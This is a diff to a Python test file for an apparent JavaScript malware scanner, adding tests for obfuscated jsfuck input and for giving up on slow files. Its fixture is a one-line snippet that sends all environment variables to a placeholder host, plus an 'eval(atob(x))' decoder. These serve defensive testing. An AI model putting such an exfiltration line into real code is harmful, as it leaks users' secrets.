@@ -2,7 +2,7 @@ from __future__ import annotations
 
 import pytest
 
-from assay.javascript.read import read
+from assay.javascript.read import BRACKETS, TOO_SLOW, read
 from assay.model.source import BehaviourKind, SourceFile
 
 DUMP = "const https = require('https');\nhttps.get('https://a.invalid/?' + JSON.stringify(process.env));\n"
@@ -71,3 +71,24 @@ def test_hidden_text_is_decoded() -> None:
 )
 def test_odd_ways_to_write_a_call_hide_nothing(code: str) -> None:
     assert any(flow.source.kind is BehaviourKind.DECODE for flow in read("a.mjs", code.encode()).flows)
+
+
+BROKEN = b"[][(![]+[])[+[]]"
+
+
+def test_what_would_take_the_parser_gigabytes_is_left_out_and_told() -> None:
+    file = read("a.js", DUMP.encode() + b"eval(atob(x));" + BROKEN * 3_000)
+    assert file.unread == BRACKETS
+    assert (BehaviourKind.ENVIRONMENT_DUMP, BehaviourKind.NETWORK) in kinds(file)
+    assert [trait.name for trait in file.traits] == ["jsfuck"]
+
+
+def test_a_file_is_followed_until_it_is_told_to_stop() -> None:
+    assert read("a.js", DUMP.encode(), stop=lambda: False).unread == ""
+    given_up = read("a.js", DUMP.encode() * 1_000, stop=lambda: True)
+    assert (given_up.unread, given_up.flows) == (TOO_SLOW, ())
+
+
+def test_a_file_that_was_given_up_does_not_disturb_the_next() -> None:
+    read("a.js", DUMP.encode() * 1_000, stop=lambda: True)
+    assert kinds(read("b.js", DUMP.encode())) == {(BehaviourKind.ENVIRONMENT_DUMP, BehaviourKind.NETWORK)}
